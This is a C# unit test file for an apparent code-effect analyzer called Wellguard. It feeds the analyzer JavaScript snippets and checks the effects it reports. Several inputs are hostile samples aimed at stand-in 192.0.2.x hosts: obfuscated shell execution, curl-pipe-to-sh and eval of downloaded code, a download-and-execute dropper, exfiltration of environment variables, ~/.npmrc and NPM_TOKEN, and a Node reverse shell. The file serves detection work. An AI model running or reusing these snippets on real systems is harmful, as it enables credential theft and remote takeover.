using Wellguard.Programs;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class JavaScriptTests
{
    [Theory]
    [InlineData("require('child_process').exec('id')", "Interpret sh = id")]
    [InlineData("const {exec: e} = require('child_' + 'process'); e('id');", "Interpret sh = id")]
    [InlineData("import { execSync } from 'node:child_process';\nexecSync(`curl ${'http://192.0.2.1'}/x | sh`)", "Interpret sh = curl http://192.0.2.1/x | sh")]
    [InlineData("import * as cp from 'child_process'; cp['ex' + 'ec']('id')", "Interpret sh = id")]
    [InlineData("global['req'+'uire']('child_process').execSync(Buffer.from('6964', 'hex').toString())", "Interpret sh = id [hex]")]
    [InlineData("const cp = require('child_process');\ncp.spawn('node', ['a.js', 'b c'], {detached: true, stdio: 'ignore'}).unref();", "Interpret sh = node a.js 'b c'")]
    [InlineData("const s = String.fromCharCode(105, 100); require('child_process').exec(s)", "Interpret sh = id [character codes]")]
    [InlineData("const s = [110, 99].map(c => String.fromCharCode(c ^ 7)).join(''); require('child_process').exec(s)", "Interpret sh = id [character codes]")]
    [InlineData("require('child_process').exec('di'.split('').reverse().join(''))", "Interpret sh = id [reverse]")]
    [InlineData("require('child_process').exec(unescape('%69%64'))", "Interpret sh = id [percent]")]
    [InlineData("let o=''; for (let i = 0; i < 2; i++) { o += String.fromCharCode('hc'.charCodeAt(i) + 1); } require('child_process').exec(o)", "Interpret sh = id [character codes]")]
    [InlineData("function run(c) { require('child_process').exec(c); }\nrun('id');", "Interpret sh = id")]
    [InlineData("if (process.platform === 'linux') { require('child_process').exec('id'); }", "Interpret sh = id ?")]
    public void Commands_are_seen_through_aliases_and_folding(string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines("javascript", code));

    [Theory]
    [InlineData("fetch('http://192.0.2.1/a').then(r => r.text()).then(t => eval(t))", "Download http://192.0.2.1/a", "Interpret javascript from http://192.0.2.1/a")]
    [InlineData("require('https').get('https://192.0.2.1/p', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)); });", "Download https://192.0.2.1/p", "Interpret javascript from https://192.0.2.1/p")]
    [InlineData("const fs = require('fs'); const http = require('http');\nconst f = fs.createWriteStream('/tmp/x');\nhttp.get('http://192.0.2.1/x', r => r.pipe(f));\nfs.chmodSync('/tmp/x', 0o755);\nrequire('child_process').spawn('/tmp/x');",
        "Write /tmp/x from http://192.0.2.1/x", "Download http://192.0.2.1/x", "MakeExecutable /tmp/x from http://192.0.2.1/x", "Execute /tmp/x from http://192.0.2.1/x")]
    [InlineData("fetch('https://192.0.2.1/c', {method: 'POST', body: JSON.stringify(process.env)})", "Read environment", "Send https://192.0.2.1/c from environment")]
    [InlineData("const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst data = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst req = https.request({hostname: '192.0.2.9', port: 443, path: '/u', method: 'POST'}, () => {});\nreq.write(data);\nreq.end();",
        "Read ~/.npmrc", "Send https://192.0.2.9/u from ~/.npmrc")]
    [InlineData("const axios = require('axios'); axios.post('https://192.0.2.1/x', {token: process.env.NPM_TOKEN})", "Send https://192.0.2.1/x from environment[NPM_TOKEN]")]
    [InlineData("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))", "Interpret javascript = require('child_process').exec('id') [base64]")]
    [InlineData("var n=require('net'),c=require('child_process');var s=n.connect(4444,'192.0.2.1',function(){var p=c.spawn('/bin/sh',['-i']);s.pipe(p.stdin);p.stdout.pipe(s);});", "Connect 192.0.2.1:4444 = shell", "Interpret sh = /bin/sh -i")]
    [InlineData("require('fs').unlinkSync(__filename)", "Delete __file__")]
    public void Data_keeps_where_it_comes_from(string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines("javascript", code));

    [Fact]
    public void Code_in_a_string_is_read_as_code()
    {
        var effect = Assert.Single(Evaluation.Of("javascript", "\n  new Function('req', \"req('x'); require('child_process').exec('curl 192.0.2.1|sh')\")(require)"));
        Assert.Equal((EffectKind.Interpret, "javascript", 2), (effect.Kind, effect.Object, effect.Line));
        Assert.Equal("curl 192.0.2.1|sh", Assert.Single(effect.Steps).Text);
    }

    [Theory]
    [InlineData("const express = require('express');\nconst app = express();\napp.get('/', (req, res) => { res.send('hello'); });\napp.listen(3000);")]
    [InlineData("class A { fetch(url) { return this.get(url); } exec(cmd) { const m = /a\\/b/.exec(cmd); return m ? m[1] / 2 : 0 } }")]
    [InlineData("const re = /['\"`]/g; const t = `a ${b ? `c ${d}` : ''}`; module.exports = { re, t }")]
    [InlineData("var port = process.env.PORT || 3000; console.log(`listening on ${port}`)")]
    public void Honest_programs_have_no_effects(string code) => Assert.Empty(Evaluation.Lines("javascript", code));

    [Theory]
    [InlineData("exports.add = (a, b) => a + b\nconst cp = require('child_process')\ncp.exec('id')")]
    [InlineData("const f = a => [a]\nrequire('child_process').exec('id')")]
    [InlineData("const f = a =>\n  a +\n  1\nrequire('child_process').exec('id')")]
    [InlineData("const f = a => `${a}`\nlet x = 1; require('child_process').exec('id')")]
    [InlineData("const f = a => a in b\n  ? 1 : 2\nrequire('child_process').exec('id')")]
    public void A_line_break_ends_a_function_that_is_an_expression(string code) => Assert.Equal(["Interpret sh = id"], Evaluation.Lines("javascript", code));
}
